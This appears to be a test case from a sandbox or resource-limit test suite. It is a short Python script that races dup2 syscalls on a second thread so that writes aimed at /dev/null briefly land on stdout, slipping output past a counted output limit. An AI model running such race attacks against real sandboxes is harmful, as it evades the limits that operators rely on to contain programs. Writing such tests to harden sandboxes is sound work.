# SPDX-License-Identifier: Apache-2.0
# attack: another thread puts stdout under the number that is written to, just while the kernel looks
# class: output
# wins: limit
# native: n/a: it is a race against the counting
# limits: out=2000000 wall=12 tasks=16
from kit import *

b = ctypes.create_string_buffer(b'p' * 100000)
null = openat('/dev/null', os.O_WRONLY)
os.dup2(null, 50)
tried()
raw = function(RAW, ctypes.c_void_p, ctypes.c_long)
on, off = (ctypes.c_long * 7)(NR['dup2'], 1, 50), (ctypes.c_long * 7)(NR['dup2'], null, 50)
pause = (ctypes.c_long * 7)(NR['getppid'] if 'getppid' in NR else 110)


def pulse():
    raw(on, 1)
    raw(off, 1)
    raw(pause, 300)


end = loop_thread(pulse)
stop = time.monotonic() + 5
n = 0
while time.monotonic() < stop:
    n += 1
    sc('write', 50, b, 100000)
end()
say('ROUNDS', n)
